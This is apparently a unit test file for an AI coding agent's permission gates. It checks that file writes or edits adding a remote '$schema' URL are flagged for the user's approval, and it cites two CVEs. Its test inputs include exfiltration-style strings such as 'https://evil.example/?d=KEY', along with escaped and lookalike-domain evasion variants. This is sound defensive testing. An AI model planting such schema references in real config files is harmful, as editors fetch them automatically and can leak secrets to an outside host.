import { expect, test } from 'vitest';
import { toolBench } from '#test/support/tool-context';
import { verdictOf } from '#test/unit/gates/bench';
import { gatesWithFiles } from '#test/unit/gates/settings-files/lab';
import { editFile } from '#tools/files/edit-file';
import { readFile } from '#tools/files/read-file';
import { schemaConcerns } from '#tools/files/remote-schema';

test.each([
  '{"$schema": "https://evil.example/?d=KEY"}',
  '{ "$schema"\n :\t"http://10.0.0.1/x" }',
  '{"\\u0024schema": "https:\\/\\/evil.example/x"}',
  "{'$schema': 'https://evil.example'}",
  '# yaml-language-server: $schema=https://evil.example/s.json',
  '{"$schema": "https://json.schemastore.org/tsconfig?d=KEY"}',
  '{"$schema": "https://json.schemastore.org.evil.example/tsconfig"}',
])('CVE-2025-49150 CVE-2025-53097 a new schema on the network is worth a question: %s', (text) => {
  expect(schemaConcerns(undefined, text)).toHaveLength(1);
  expect(schemaConcerns(text, `${text}\n`)).toEqual([]);
});

test.each([
  '{"$schema": "./node_modules/x/schema.json"}',
  '{"$schema": "file:///x"}',
  '{"$schema": "https://json.schemastore.org/tsconfig"}',
  '{"schema": "https://evil.example"}',
  '',
])('a schema that nobody learns from is not: %s', (text) => {
  expect(schemaConcerns(undefined, text)).toEqual([]);
});

test('CVE-2025-49150 a new file that brings one asks, whatever the mode', async () => {
  const gates = await gatesWithFiles({ 'a.json': '{\n  "a": 1\n}\n' }, { mode: 'allow' });
  const text = '{"$schema": "https://evil.example/?d=KEY"}';
  expect(await verdictOf(gates.walk('write_file', { path: 'b.json', content: text }), gates)).toBe('ask');
  expect(await verdictOf(gates.walk('write_file', { path: 'c.json', content: '{}' }), gates)).toBe('allow');
  expect(gates.asked[0]?.concerns.join()).toContain('fetch https://evil.example/?d=KEY by itself');
});

test('CVE-2025-49150 an edit that brings one asks, one that leaves it as it was does not', async () => {
  const bench = toolBench({ 'a.json': '{"$schema": "https://known.example/x",\n "a": 1}\n' });
  await bench.call(readFile, { path: 'a.json' });
  const concerns = (oldText: string, newText: string) =>
    editFile.concerns?.({ path: 'a.json', oldText, newText }, bench.context);
  expect([await concerns('1', '2'), await concerns('known', 'evil')]).toEqual([
    [],
    ['the editor will fetch https://evil.example/x by itself'],
  ]);
});
